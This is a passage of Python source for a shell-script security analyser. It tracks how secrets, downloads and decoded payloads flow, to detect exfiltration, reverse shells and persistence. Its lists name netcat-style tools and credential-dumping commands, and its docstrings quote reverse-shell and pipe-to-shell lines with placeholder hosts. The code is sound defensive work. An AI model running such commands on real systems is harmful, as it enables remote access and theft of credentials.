"""What a shell script does with secrets, downloads and decoded payloads, followed through
its parse (:mod:`~skilldeck.engine.safety._shell_parse`).

The analysis runs the script's commands in order over abstract values: each word,
variable, file and pipe carries a *shape* (its text, with what is unknown as
:data:`~skilldeck.engine.safety._flow.UNKNOWN`) and *labels* (where its data came from,
:class:`~skilldeck.engine.safety._flow.Label`). Assignments, command substitutions, pipes,
redirections to and from files, ``read``, ``for`` loops and the script's own functions
(run with their arguments bound) carry labels along; the commands it knows say what
they read (a credential file named in their arguments, the environment), what they
produce (a download, a decoded payload) and where data leaves (the network, a DNS name,
a registry config) or what runs (a shell fed a download, ``eval``, ``bash -c``, a file
that was downloaded). Anything else passes its inputs to its output. Verdicts are
:class:`~skilldeck.engine.safety._flow.Verdicts`'.

Not followed: data through files written by another script, loops run more than once,
indirect expansion (``${!name}``), ``alias``, arrays element by element, and values
computed by arithmetic.
"""

from __future__ import annotations

import posixpath
import re
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from typing import NamedTuple

from skilldeck.engine.safety._flow import (
    CLEAN,
    INSTRUCTS,
    NESTED,
    UNKNOWN,
    Label,
    Line,
    Taint,
    Verdicts,
    elided,
    home,
    labels_of,
    placeholder_host,
    sensitive_path,
    token_label,
    url_host,
    without,
)
from skilldeck.engine.safety._hits import Hit, shorten
from skilldeck.engine.safety._shell_parse import (
    Command,
    FuncDef,
    Group,
    Part,
    Pipeline,
    Redirect,
    Script,
    ShellParser,
    Simple,
    Sub,
    Var,
    Word,
    parse_shell,
)


@dataclass(frozen=True, slots=True)
class Value:
    """A word, a variable or a stream: its text as far as known, and its labels."""

    shape: str
    taint: Taint = CLEAN

    @property
    def known(self) -> bool:
        return UNKNOWN not in self.shape


_NOTHING = Value("")
_UNKNOWN_VALUE = Value(UNKNOWN)

_SHELLS = frozenset(
    {"sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "busybox", "csh", "tcsh", "yash"}
)
_INTERPRETERS = {
    "python": "-c",
    "python2": "-c",
    "python3": "-c",
    "perl": "-e",
    "ruby": "-e",
    "node": "-e",
    "nodejs": "-e",
    "php": "-r",
    "pwsh": "-command",
    "powershell": "-command",
    "powershell.exe": "-command",
    "pwsh.exe": "-command",
    "osascript": "-e",
    "deno": "eval",
    "bun": "-e",
    "lua": "-e",
    "tclsh": "",
    "awk": "",
    "gawk": "",
}
_PREFIXES = frozenset(
    {
        "sudo",
        "doas",
        "nohup",
        "time",
        "command",
        "builtin",
        "exec",
        "stdbuf",
        "setsid",
        "nice",
        "ionice",
        "timeout",
        "caffeinate",
        "chronic",
        "unbuffer",
        "torsocks",
        "proxychains",
        "proxychains4",
        "run0",
    }
)
_DOWNLOADERS = frozenset(
    {
        "curl",
        "wget",
        "fetch",
        "aria2c",
        "http",
        "https",
        "xh",
        "curlie",
        "lwp-request",
        "iwr",
        "irm",
        "invoke-webrequest",
        "invoke-restmethod",
    }
)
_STREAMERS = frozenset(
    {"nc", "ncat", "netcat", "telnet", "socat", "openssl", "cryptcat", "sbd", "pwncat"}
)
_DNS = frozenset(
    {
        "dig",
        "nslookup",
        "host",
        "drill",
        "kdig",
        "delv",
        "ping",
        "ping6",
        "resolvectl",
        "getent",
        "traceroute",
    }
)
_VERIFIERS = frozenset(
    {
        "sha256sum",
        "sha512sum",
        "sha1sum",
        "sha384sum",
        "sha224sum",
        "shasum",
        "md5sum",
        "b2sum",
        "cksum",
        "gpg",
        "gpgv",
        "gpg2",
        "cosign",
        "minisign",
        "signify",
        "slsa-verifier",
        "sigstore",
    }
)
_ENV_DUMPS = frozenset({"env", "printenv", "set", "export", "declare", "typeset", "compgen"})
_REPO_DUMPS = frozenset({"diff", "show", "log", "format-patch", "archive", "bundle", "stash"})
_COPIERS = frozenset({"cp", "mv", "install", "ln", "rsync", "ditto"})
_DECODE_FLAGS = re.compile(r"^-(?:[a-zA-Z]*[dD][a-zA-Z]*|-decode)$")
_MAX_CALL_DEPTH = 4
_MAX_NESTED = 3


def _basename(shape: str) -> str:
    return posixpath.basename(shape.replace("\\", "/")).lower()


def norm_path(shape: str) -> str:
    """A path shape as the files it names are keyed (``~`` for home, no ``./``)."""
    path = home(shape.strip())
    if path.startswith("./"):
        path = path[2:]
    return posixpath.normpath(path) if path and UNKNOWN not in path else path


def _options(values: list[Value]) -> Iterator[tuple[int, str]]:
    for index, value in enumerate(values):
        if value.shape.startswith("-"):
            yield index, value.shape


@dataclass(slots=True)
class _State:
    """What the analysis knows at a point of the script."""

    vars: dict[str, Value] = field(default_factory=dict)
    files: dict[str, Value] = field(default_factory=dict)
    functions: dict[str, FuncDef] = field(default_factory=dict)
    verified: set[str] = field(default_factory=set)
    #: File descriptors opened on a network address (``exec 3<>/dev/tcp/h/p``): host.
    sockets: dict[str, str] = field(default_factory=dict)
    depth: int = 0


@dataclass(slots=True)
class Installed:
    """What a piece of shell text installed to run later does (cron, rc files, hooks)."""

    does: list[str] = field(default_factory=list)


class ShellAnalysis:
    """Runs a parsed script over abstract values and reports to ``verdicts``."""

    def __init__(self, text: str, verdicts: Verdicts, *, nested: int = 0) -> None:
        self.text = text
        self.verdicts = verdicts
        self.line = verdicts.line_of
        self.state = _State()
        self.nested = nested
        #: The pipeline feeding the command being run, if any.
        self.piped: Pipeline | None = None
        #: Whether the command being run writes to the terminal (no pipe after it).
        self.shown = True

    # --- scripts ----------------------------------------------------------------------

    def run(self, script: Script, stdin: Value = _NOTHING) -> Value:
        out: list[Value] = []
        for pipeline in script.pipelines:
            out.append(self.pipeline(pipeline, stdin))
        return _join(out)

    def pipeline(self, pipeline: Pipeline, stdin: Value) -> Value:
        data = stdin
        commands = pipeline.commands
        if len(commands) > 1:
            self._piped_shell(pipeline)
        outer = self.piped
        for index, command in enumerate(commands):
            self.piped = pipeline if index else outer
            #: whether this command's output goes to the terminal (the last of its pipeline)
            self.shown = index == len(commands) - 1
            data = self.command(command, data)
        self.piped = outer
        return data

    def fed(self, command: Simple) -> tuple[int, int, str]:
        """Where a command that runs its standard input is reported: the whole pipeline
        that feeds it (``curl ... | sh``), or the command."""
        if self.piped is not None:
            start, end = self.piped.start, self.piped.end
        else:
            start, end = command.start, command.end
        return start, end, self.text[start:end]

    def _piped_shell(self, pipeline: Pipeline) -> None:
        """``sh -i 2>&1 | nc host port``, ``telnet h p | /bin/sh | telnet h q``: a shell
        whose input or output is a network stream."""
        names = [self._name(command) for command in pipeline.commands]
        if not any(name in _SHELLS for name in names):
            return
        for command, name in zip(pipeline.commands, names, strict=True):
            if name in ("nc", "ncat", "netcat", "telnet", "socat", "openssl") and isinstance(
                command, Simple
            ):
                values = [self.word(word) for word in command.words[1:]]
                host = next(
                    (
                        v.shape
                        for v in values
                        if (not v.shape.startswith("-") and "." in v.shape)
                        or v.shape == "localhost"
                    ),
                    None,
                )
                self._reverse_shell(host, pipeline.start, pipeline.end)
                return

    def _name(self, command: Command) -> str:
        if not isinstance(command, Simple) or not command.words:
            return ""
        words = command.words
        index = 0
        while index < len(words):
            name = _basename(words[index].literal() or "")
            if name in _PREFIXES or name == "env":
                index += 1
                while index < len(words) and (words[index].literal() or "").startswith("-"):
                    index += 1
                continue
            return name
        return ""

    # --- commands ---------------------------------------------------------------------

    def command(self, command: Command, stdin: Value) -> Value:
        if isinstance(command, FuncDef):
            self.state.functions[command.name] = command
            return _NOTHING
        if isinstance(command, Group):
            stdin = self._inputs(command.redirects, stdin, command.start)
            if command.loop_var is not None:
                items = [self.word(item) for item in command.items]
                chosen = next(
                    (item for item in items if sensitive_path(item.shape, 0) is not None),
                    items[0] if items else _UNKNOWN_VALUE,
                )
                self.state.vars[command.loop_var] = Value(
                    chosen.shape, _union(item.taint for item in items)
                )
            else:
                for item in command.items:
                    self.word(item)
            out = self.run(command.body, stdin)
            self._sockets_used(command)
            return self._outputs(command.redirects, out, command.start, command.end, "")
        return self.simple(command, stdin)

    def simple(self, command: Simple, stdin: Value) -> Value:
        for name, word in command.assigns:
            value = self.word(word)
            if not command.words:
                self._assign(name, value, command)
        stdin = self._inputs(command.redirects, stdin, command.start)
        values = [self.word(word) for word in command.words]
        text = self.text[command.start : command.end]
        out = self._dispatch(command, values, stdin, text)
        return self._outputs(command.redirects, out, command.start, command.end, text)

    def _assign(self, name: str, value: Value, command: Simple) -> None:
        self.state.vars[name] = value

    def _dispatch(self, command: Simple, values: list[Value], stdin: Value, text: str) -> Value:
        # strip prefixes: sudo -u x, env A=b, timeout 5, nice -n 10, xargs
        while values:
            name = _basename(values[0].shape)
            if name == "env" and all(v.shape.startswith("-") or "=" in v.shape for v in values[1:]):
                break  # env alone prints the environment
            if name == "xargs":
                values = self._skip_options(values[1:])
                if values:
                    values = [*values, Value(UNKNOWN, stdin.taint)]
                continue
            if name not in _PREFIXES and name != "env":
                break
            values = values[1:]
            while values and (
                values[0].shape.startswith("-")
                or (name == "env" and "=" in values[0].shape)
                or (name in ("timeout", "nice") and values[0].shape.replace(".", "").isdigit())
            ):
                skipped = values[0].shape
                values = values[1:]
                if (name in ("sudo", "doas") and skipped in ("-u", "-g", "-C", "-h", "-p")) or (
                    name == "nice" and skipped == "-n"
                ):
                    values = values[1:]
        if not values:
            return stdin
        head = values[0]
        name = _basename(head.shape)
        args = values[1:]
        start, end = command.start, command.end
        if name not in ("echo", "printf", "print", "cat", "tee"):
            self.verdicts.safeguards(" ".join(v.shape for v in values), start, end, command=text)
        if name in self.state.functions and self.state.depth < _MAX_CALL_DEPTH:
            return self._call(self.state.functions[name], args, stdin)
        handler = _HANDLERS.get(name)
        if handler is not None:
            return handler(self, Call(name, args, stdin, command, text))
        if name in _SHELLS or name in _INTERPRETERS or re.fullmatch(r"python[\d.]*", name):
            return self._interpreter(name, args, stdin, command, text)
        if head.shape.startswith(("./", "/", "~/", "../")) or "/" in head.shape or not head.known:
            # running a file, or a command held in a variable
            path = norm_path(head.shape)
            held = self.state.files.get(path, _NOTHING)
            taint = held.taint | head.taint
            if path in self.state.verified:
                taint = without(taint, "download")
            self.verdicts.execute(taint, start, end, command=text)
            if not head.known and head.taint:
                self._nested(head.shape, "sh", command)
        return Value(UNKNOWN, _union([stdin.taint, *(self._read(v) for v in args)]))

    def _skip_options(self, values: list[Value]) -> list[Value]:
        while values and values[0].shape.startswith("-"):
            values = values[1:]
        return values

    def _call(self, function: FuncDef, args: list[Value], stdin: Value) -> Value:
        saved = {key: self.state.vars.get(key) for key in ("@", "*", "1", "2", "3", "4", "5")}
        for index, arg in enumerate(args[:9], 1):
            self.state.vars[str(index)] = arg
        everything = Value(" ".join(a.shape for a in args), _union(a.taint for a in args))
        self.state.vars["@"] = self.state.vars["*"] = everything
        self.state.depth += 1
        try:
            return self.command(function.body, stdin)
        finally:
            self.state.depth -= 1
            for key, value in saved.items():
                if value is None:
                    self.state.vars.pop(key, None)
                else:
                    self.state.vars[key] = value

    # --- reading, writing, running ----------------------------------------------------

    def _read(self, value: Value) -> Taint:
        """What a command that gets ``value`` as an argument may read: the value itself,
        and the file it names."""
        taint = value.taint
        shape = value.shape
        if shape.startswith("@"):
            shape = shape[1:]
        if shape.startswith("-"):
            if "=" not in shape:
                return taint
            shape = shape.split("=", 1)[1]
        if not shape:
            return taint
        label = sensitive_path(shape, self._line_now)
        if label is not None:
            taint |= {label}
        if self.state.files:
            held = self.state.files.get(norm_path(shape))
            if held is not None:
                taint |= held.taint
        return taint

    _line_now = 0

    def _inputs(self, redirects: list[Redirect], stdin: Value, at: int) -> Value:
        for redirect in redirects:
            if redirect.op == "<" and redirect.target is not None:
                target = self.word(redirect.target)
                stdin = Value(self._content_shape(target), self._read(target))
                host = _dev_tcp(target.shape)
                if host is not None:
                    stdin = Value(UNKNOWN, stdin.taint | {Label("remote", host, self.line(at))})
            elif redirect.op == "<<<" and redirect.target is not None:
                stdin = self.word(redirect.target)
            elif redirect.heredoc is not None:
                stdin = self.word(redirect.heredoc)
            elif redirect.op == "<&" and redirect.target is not None:
                fd = redirect.target.literal() or ""
                if fd in self.state.sockets:
                    stdin = Value(
                        UNKNOWN,
                        stdin.taint | {Label("remote", self.state.sockets[fd], self.line(at))},
                    )
        return stdin

    def _content_shape(self, target: Value) -> str:
        held = self.state.files.get(norm_path(target.shape))
        return held.shape if held is not None else UNKNOWN

    def _outputs(
        self, redirects: list[Redirect], out: Value, start: int, end: int, text: str
    ) -> Value:
        for redirect in redirects:
            if redirect.target is None or redirect.op in ("<", "<<<", "<<", "<<-", "<&"):
                continue
            if redirect.fd and redirect.fd not in ("1",) and redirect.op != "<>":
                if redirect.op in (">&",) and redirect.target.literal() in self.state.sockets:
                    continue
                if redirect.fd == "2":
                    continue
            target = self.word(redirect.target)
            host = _dev_tcp(target.shape)
            if redirect.op == "<>" and host is not None and text.lstrip().startswith("exec"):
                self.state.sockets[redirect.fd or "0"] = host
                continue
            if host is not None:
                if _shell_name(text) and not placeholder_host(host):
                    self._reverse_shell(host, start, end)
                    return _NOTHING
                self.verdicts.send(
                    out.taint, start, end, command=text or self.text[start:end], host=host
                )
                return _NOTHING
            if redirect.op in (">&", "<&") and (target.shape.isdigit() or target.shape == "-"):
                continue
            if target.shape in ("/dev/null", "/dev/stderr", "/dev/stdout"):
                if target.shape == "/dev/null":
                    return _NOTHING
                continue
            self.write(
                target.shape,
                out,
                append=redirect.op in (">>", "&>>"),
                start=start,
                end=end,
                command=text,
            )
            out = _NOTHING
        return out

    def write(
        self, shape: str, value: Value, *, append: bool, start: int, end: int, command: str
    ) -> None:
        """``value`` written (or appended) to the file ``shape``."""
        path = norm_path(shape)
        if append and path in self.state.files:
            old = self.state.files[path]
            value = Value(old.shape + value.shape, old.taint | value.taint)
        self.state.files[path] = value
        self.verdicts.safeguards(value.shape, start, end, command=command)
        if _REGISTRY_CONFIG.search(path) and value.taint:
            registry = _REGISTRY_URL.search(value.shape)
            host = url_host(registry.group(1) or "//" + registry.group(2)) if registry else None
            self.verdicts.send(value.taint, start, end, command=command, host=host, how="registry")
        self.persist(path, value, start, end, command)
        download = next((label for label in value.taint if label.kind == "download"), None)
        if download is not None and _OWN_FILES.search(home(path)):
            self.verdicts.add(
                "SD1053",
                start,
                end,
                path=shorten(path.replace(UNKNOWN, "..."), 60),
                source=download.what,
                command=shorten(command),
            )

    def persist(  # noqa: PLR0917 - the call's parts
        self, path: str, value: Value, start: int, end: int, command: str, place: str | None = None
    ) -> None:
        """Judge what a write to ``path`` installs (cron, shell start-up files, git hooks,
        SSH keys, service units), or what is installed as ``place``."""
        place = place or persistence_place(path)
        if place is None:
            return
        if place == "authorized_keys":
            if _planted_key(value):
                self.verdicts.add(
                    "SD1026",
                    start,
                    end,
                    what="adds an SSH key to `~/.ssh/authorized_keys` "
                    "(whoever holds it can log in)",
                    command=shorten(command),
                )
            return
        if place == "instructions":
            self._instructions(path, value, start, end, command)
            return
        downloaded = any(label.kind in ("download", "decode") for label in value.taint)
        shown = path.replace(UNKNOWN, "...")
        if place == "a Python start-up file" and (
            downloaded
            or _STARTUP_RUNS.search(value.shape.replace(UNKNOWN, " ")) is not None
            or (path.endswith(".pth") and re.search(r"(?m)^import[ \t]", value.shape))
        ):
            self.verdicts.add(
                "SD1026",
                start,
                end,
                what=f"installs a Python start-up file `{shorten(shown, 60)}` "
                "(its code runs at every start of Python)",
                command=shorten(command),
            )
            return
        if place == "an MCP server config" and (
            downloaded or re.search(r"[\"']?(?:command|url)[\"']?\s*:", value.shape)
        ):
            self.verdicts.add(
                "SD1026",
                start,
                end,
                what=f"adds an MCP server to the agent's config `{shorten(shown, 60)}` "
                "(it runs in every later session)",
                command=shorten(command),
            )
            return
        does = installed_does(_commands_of(place, value.shape), cron=place == "a cron job")
        does += [f"runs {label.what}" for label in labels_of(value.taint, "download")]
        if does:
            self.verdicts.add(
                "SD1026",
                start,
                end,
                what=f"installs {place} that {_and(does)}",
                command=shorten(command),
            )

    def _instructions(self, path: str, value: Value, start: int, end: int, command: str) -> None:
        """A write to the agent's standing instructions (``CLAUDE.md``, ``AGENTS.md``, its
        memory and rules), which every later session reads: persistence when it is the
        user's own (in the home folder), or when what is written was downloaded or tells
        the model what to do."""
        home_level = home(path).startswith("~")
        downloaded = any(label.kind == "download" for label in value.taint)
        judge = INSTRUCTS.get("kind")
        told = (
            judge is not None
            and bool(value.shape.strip(UNKNOWN + " \n"))
            and judge(value.shape) is not None
        )
        if home_level or downloaded or told:
            self.verdicts.add(
                "SD1026",
                start,
                end,
                what=f"writes the agent's standing instructions `{shorten(path, 60)}` "
                "(every later session reads them)",
                command=shorten(command),
            )

    def _interpreter(
        self, name: str, args: list[Value], stdin: Value, command: Simple, text: str
    ) -> Value:
        start, end = command.start, command.end
        lowered = [a.shape.lower() for a in args]
        if name.startswith(("pwsh", "powershell")):
            for index, arg in enumerate(lowered):
                if re.fullmatch(r"[-/](?:e|ec|en|enc|enco|encod|encode|encodedcommand)", arg) and (
                    index + 1 < len(args)
                ):
                    self.verdicts.add("SD1012", start, end, command=shorten(text))
                    return _UNKNOWN_VALUE
        flag = _INTERPRETERS.get(name, "-c" if name in _SHELLS or name.startswith("python") else "")
        code: Value | None = None
        script: Value | None = None
        index = 0
        while index < len(args):
            arg = lowered[index]
            if flag and (
                arg == flag
                or (
                    name in _SHELLS
                    and arg.startswith("-")
                    and not arg.startswith("--")
                    and "c" in arg
                )
                or (
                    flag == "-command"
                    and re.fullmatch(r"[-/]c(?:o(?:m(?:m(?:a(?:n(?:d)?)?)?)?)?)?", arg)
                )
            ):
                code = args[index + 1] if index + 1 < len(args) else _UNKNOWN_VALUE
                break
            if arg in ("-m",):  # python -m module
                return Value(UNKNOWN, stdin.taint)
            if arg.startswith("-"):
                index += 1
                continue
            script = args[index]
            break
        if code is not None:
            self.verdicts.execute(code.taint, start, end, command=text)
            language = "sh" if name in _SHELLS else name
            self._nested(code.shape, language, command)
            return Value(UNKNOWN, code.taint)
        if script is not None:
            path = norm_path(script.shape)
            held = self.state.files.get(path, _NOTHING)
            taint = held.taint | script.taint
            if path in self.state.verified:
                taint = without(taint, "download")
            self.verdicts.execute(taint, start, end, command=text)
            return Value(UNKNOWN, stdin.taint)
        # the program comes from standard input
        start, end, text = self.fed(command)
        remote = next(labels_of(stdin.taint, "remote"), None)
        if remote is not None and name in _SHELLS:
            self._reverse_shell(remote.what, start, end)
        self.verdicts.execute(stdin.taint, start, end, command=text)
        if stdin.known and stdin.shape.strip():
            self._nested(stdin.shape, "sh" if name in _SHELLS else name, command)
        return _UNKNOWN_VALUE

    def _nested(self, code: str, language: str, command: Simple) -> None:
        """Analyse a literal script a command runs (``bash -c '...'``, ``eval``,
        ``python3 -c``), its findings at the command."""
        if self.nested >= _MAX_NESTED or UNKNOWN in code or not code.strip():
            return
        hits = nested_hits(code, language, nested=self.nested + 1)
        self.verdicts.nested(hits, command.start, command.end)

    def _reverse_shell(self, host: str | None, start: int, end: int) -> None:
        if host is None or placeholder_host(host):
            return
        self.verdicts.add("SD1025", start, end, host=host, command=shorten(self.text[start:end]))

    def _sockets_used(self, group: Group) -> None:
        """``while read l <&3; do $l >&3; done``: commands read from and written to a
        socket opened with ``exec 3<>/dev/tcp/...`` and run."""
        fds = {r.target.literal() for r in group.redirects if r.target is not None}
        hosts = [self.state.sockets[fd] for fd in fds if fd in self.state.sockets]
        body = self.text[group.start : group.end]
        if hosts and re.search(r"\beval\b|\$\w+\s*(?:[<>]|\d?>&|$)|\b(?:ba)?sh\b", body):
            self._reverse_shell(hosts[0], group.start, group.end)

    # --- words --------------------------------------------------------------------------

    def word(self, word: Word) -> Value:
        self._line_now = self.line(word.start)
        return self.parts(word.parts, word.start)

    def parts(self, parts: list[Part], at: int) -> Value:
        shapes: list[str] = []
        taint: Taint = CLEAN
        for part in parts:
            if isinstance(part, str):
                shapes.append(part)
            elif isinstance(part, Var):
                value = self.var(part)
                shapes.append(value.shape)
                taint |= value.taint
            else:
                value = self.substitution(part)
                shapes.append(value.shape)
                taint |= value.taint
        return Value("".join(shapes), taint)

    def var(self, var: Var) -> Value:
        name = var.name
        inner = self.parts(var.inner, var.start) if var.inner else None
        if name in ("HOME",):
            return Value("~")
        value = self.state.vars.get(name)
        if value is not None:
            return value
        label = token_label(name, self.line(var.start))
        default = inner if inner is not None and inner.shape[:1] in ("-", "=") else None
        if label is not None:
            return Value(UNKNOWN, frozenset({label}))
        if default is not None:
            return Value(default.shape[1:] or UNKNOWN, default.taint)
        return Value(UNKNOWN, inner.taint if inner is not None else CLEAN)

    def substitution(self, sub: Sub) -> Value:
        if sub.kind in ("<(", ">("):
            out = self.run(sub.body)
            return Value(UNKNOWN, out.taint)
        out = self.run(sub.body)
        return Value(out.shape.rstrip("\n") if out.known else UNKNOWN, out.taint)


# --- command handlers ----------------------------------------------------------------


class Call(NamedTuple):
    """A command as a handler gets it: its name, arguments (values), standard input,
    the parsed command and its text."""

    name: str
    args: list[Value]
    stdin: Value
    command: Simple
    text: str


Handler = Callable[[ShellAnalysis, Call], Value]
_HANDLERS: dict[str, Handler] = {}


def _handles(*names: str) -> Callable[[Handler], Handler]:
    def register(function: Handler) -> Handler:
        for name in names:
            _HANDLERS[name] = function
        return function

    return register


@_handles("echo", "printf", "print")
def _echo(a: ShellAnalysis, k: Call) -> Value:
    name, args, _stdin, c, _text = k
    words = list(args)
    while words and re.fullmatch(r"-[neE]+", words[0].shape) and name == "echo":
        words = words[1:]
    shape = " ".join(w.shape for w in words)
    taint = _union(w.taint for w in words)
    if name == "printf" and words:
        fmt = words[0].shape
        if re.search(r"\\x[0-9a-fA-F]{2}|\\[0-7]{3}", fmt) and len(re.findall(r"\\", fmt)) >= 4:
            taint |= {Label("decode", "printf escapes", a.line(c.start))}
            shape = _unescape(fmt)
        elif "%" not in fmt:
            shape = fmt
    elif name == "echo" and any(w.shape == "-e" for w in args):
        if re.search(r"\\x[0-9a-fA-F]{2}", shape) and shape.count("\\x") >= 4:
            taint |= {Label("decode", "echo -e escapes", a.line(c.start))}
        shape = _unescape(shape)
    return Value(shape + "\n", taint)


def _unescape(text: str) -> str:
    def one(match: re.Match[str]) -> str:
        code = match.group()
        if code.startswith("\\x"):
            return chr(int(code[2:], 16))
        if code[1:].isdigit():
            return chr(int(code[1:], 8))
        return {"\\n": "\n", "\\t": "\t", "\\\\": "\\"}.get(code, code)

    return re.sub(r"\\x[0-9a-fA-F]{2}|\\[0-7]{3}|\\[nt\\]", one, text)


def _passthrough(a: ShellAnalysis, k: Call) -> Value:
    name, args, stdin, _command, _text = k
    taint = _union([stdin.taint, *(a._read(v) for v in args)])
    files = [v for v in args if not v.shape.startswith("-")]
    shape = UNKNOWN
    if (
        name == "cat"
        and a.shown
        and not any(r.op not in ("<", "<<", "<<-", "<<<") for r in k.command.redirects)
    ):
        for value in files:  # printed to the terminal, where the reviewer reads it
            a.state.verified.add(norm_path(value.shape))
    if name == "cat":
        if not files:
            shape = stdin.shape
        elif len(files) == 1:
            held = a.state.files.get(norm_path(files[0].shape))
            shape = held.shape if held is not None else UNKNOWN
    return Value(shape, taint)


def _decoder(a: ShellAnalysis, k: Call) -> Value:
    name, args, stdin, c, t = k
    out = _passthrough(a, k)
    flags = [v.shape for v in args]
    decodes = False
    if name in ("base64", "base32", "basenc", "uudecode"):
        decodes = name == "uudecode" or any(_DECODE_FLAGS.match(f) for f in flags)
    elif name == "xxd":
        decodes = any(f.startswith("-r") or f == "-revert" for f in flags)
    elif name == "openssl":
        decodes = bool(flags) and flags[0] in ("enc", "base64", "aes-256-cbc") and "-d" in flags
        if flags and flags[0] == "s_client":
            host = next(
                (f.split(":")[0] for f in flags if ":" in f and not f.startswith("-")), None
            )
            if host is not None:
                a.verdicts.send(stdin.taint, c.start, c.end, command=t, host=host)
                return Value(UNKNOWN, frozenset({Label("remote", host, a.line(c.start))}))
    elif name == "tr":
        joined = " ".join(flags)
        decodes = "N-ZA-M" in joined or "n-za-m" in joined
    elif name == "rev":
        decodes = bool(stdin.taint & frozenset(labels_of(stdin.taint, "decode")))
    if decodes and not elided(stdin.shape):
        return Value(UNKNOWN, out.taint | {Label("decode", name, a.line(c.start))})
    return Value(UNKNOWN, out.taint)


def _archive(a: ShellAnalysis, k: Call) -> Value:
    """tar -czf OUT files, zip OUT files, cp SRC DST, dd if= of=: the output file holds
    what the sources held."""
    name, args, stdin, c, t = k
    plain = [v for v in args if not v.shape.startswith("-")]
    target: str | None = None
    sources: list[Value] = []
    if name == "tar":
        flags = "".join(v.shape.lstrip("-") for v in args[:2] if not v.known or v.shape)
        creating = "c" in flags or any(v.shape in ("--create", "-c") for v in args)
        for index, value in enumerate(args):
            if (value.shape.startswith("-") and "f" in value.shape.lstrip("-")) or (
                index == 0 and "f" in value.shape and not value.shape.startswith("-")
            ):
                if index + 1 < len(args):
                    target = args[index + 1].shape
                    sources = [v for v in args[index + 2 :] if not v.shape.startswith("-")]
                break
        if not creating:
            target = None
    elif name in ("zip", "7z"):
        rest = plain[1:] if name == "7z" else plain
        if rest:
            target, sources = rest[0].shape, rest[1:]
    elif name == "dd":
        for value in args:
            if value.shape.startswith("if="):
                sources.append(Value(value.shape[3:], value.taint))
            elif value.shape.startswith("of="):
                target = value.shape[3:]
    elif plain:
        target, sources = plain[-1].shape, plain[:-1]
    taint = _union([stdin.taint if name == "dd" else CLEAN, *(a._read(v) for v in sources)])
    shape = UNKNOWN
    if name in _COPIERS and len(sources) == 1:
        held = a.state.files.get(norm_path(sources[0].shape))
        shape = held.shape if held is not None else UNKNOWN
        if held is not None:
            taint |= held.taint
    if target == "-" and name in ("tar", "zip"):
        return Value(UNKNOWN, taint)  # the archive goes to the standard output
    if target is not None:
        a.write(target, Value(shape, taint), append=False, start=c.start, end=c.end, command=t)
    if name in ("scp", "rsync"):
        return _NOTHING
    return Value(UNKNOWN, stdin.taint if name == "dd" else CLEAN)


def _tee(a: ShellAnalysis, k: Call) -> Value:
    _name, args, stdin, c, t = k
    append = any(v.shape in ("-a", "--append") for v in args)
    for value in args:
        if not value.shape.startswith("-"):
            a.write(value.shape, stdin, append=append, start=c.start, end=c.end, command=t)
    return stdin


def _read_builtin(a: ShellAnalysis, k: Call) -> Value:
    _name, args, stdin, _command, _text = k
    names = [v.shape for v in args if not v.shape.startswith("-") and v.shape.isidentifier()]
    for variable in names or ["REPLY"]:
        a.state.vars[variable] = Value(UNKNOWN, stdin.taint)
    return _NOTHING


def _declare(a: ShellAnalysis, k: Call) -> Value:
    name, args, _stdin, c, _text = k
    assigned = False
    for value in args:
        if value.shape.startswith("-"):
            continue
        key, eq, rest = value.shape.partition("=")
        if eq and key.isidentifier():
            a._assign(key, Value(rest, value.taint), c)
            assigned = True
        elif key.isidentifier():
            assigned = True
    flags = {v.shape for v in args if v.shape.startswith("-")}
    if not assigned and (
        name in ("export", "declare", "typeset")
        and (not args or flags & {"-p", "-x", "-px", "-xp"})
    ):
        return Value(UNKNOWN, frozenset({Label("env", "the whole environment", a.line(c.start))}))
    return _NOTHING


def _env(a: ShellAnalysis, k: Call) -> Value:
    name, args, _stdin, c, _text = k
    plain = [v for v in args if not v.shape.startswith("-")]
    line = a.line(c.start)
    if (name in ("env", "printenv") and not plain) or (name == "set" and not args):
        return Value(UNKNOWN, frozenset({Label("env", "the whole environment", line)}))
    if name == "compgen" and any(v.shape in ("-v", "-e") for v in args):
        return Value(UNKNOWN, frozenset({Label("env", "the whole environment", line)}))
    if name == "printenv":
        labels = {token_label(v.shape, line) for v in plain}
        return Value(UNKNOWN, frozenset(label for label in labels if label is not None))
    return _NOTHING


def _eval(a: ShellAnalysis, k: Call) -> Value:
    name, args, stdin, c, t = k
    if name in ("source", "."):
        if not args:
            return _NOTHING
        path = norm_path(args[0].shape)
        held = a.state.files.get(path, _NOTHING)
        taint = held.taint | args[0].taint
        if path in a.state.verified:
            taint = without(taint, "download")
        if args[0].shape in ("/dev/stdin", "-"):
            taint |= stdin.taint
        a.verdicts.execute(taint, c.start, c.end, command=t)
        return _NOTHING
    code = Value(" ".join(v.shape for v in args), _union(v.taint for v in args))
    if name in ("iex", "invoke-expression"):
        start, end, text = a.fed(c)
        a.verdicts.execute(code.taint | stdin.taint, start, end, command=text)
        return _UNKNOWN_VALUE
    a.verdicts.execute(code.taint, c.start, c.end, command=t)
    a._nested(code.shape, "sh", c)
    return _UNKNOWN_VALUE


def _tool(a: ShellAnalysis, k: Call) -> Value:
    """Commands that print a stored secret, or the repository's changes."""
    name, args, _stdin, c, _text = k
    shapes = [v.shape for v in args]
    line = a.line(c.start)
    joined = " ".join(shapes)
    label: Label | None = None
    if (
        name == "security"
        and shapes
        and shapes[0].startswith(
            ("find-generic-password", "find-internet-password", "dump-keychain", "export")
        )
    ):
        label = Label("secret", "the macOS keychain", line)
    elif name in ("secret-tool",) and shapes[:1] == ["lookup"]:
        label = Label("secret", "the desktop keyring", line)
    elif name == "pass" and shapes and not shapes[0].startswith(("insert", "generate", "init")):
        label = Label("secret", "the password store", line)
    elif name == "aws" and (
        ("configure get" in joined and "secret" in joined.lower())
        or "export-credentials" in joined
        or "get-session-token" in joined
    ):
        label = Label("secret", "the AWS credentials", line)
    elif name == "gcloud" and re.search(r"print-(?:access|identity)-token", joined):
        label = Label("secret", "a gcloud access token", line)
    elif name == "gh" and "auth token" in joined:
        label = Label(
            "token",
            "the GitHub CLI's token",
            line,
            ("github.com", "githubusercontent.com", "github"),
        )
    elif name == "az" and "get-access-token" in joined:
        label = Label("secret", "an Azure access token", line)
    elif name == "kubectl" and "config view" in joined and "--raw" in joined:
        label = Label("secret", "the kube config", line)
    elif name in ("op", "vault") and shapes[:1] in (["read"], ["item"], ["kv"]):
        label = Label("secret", f"a secret from `{name}`", line)
    elif name == "git":
        sub = next((s for s in shapes if not s.startswith("-")), "")
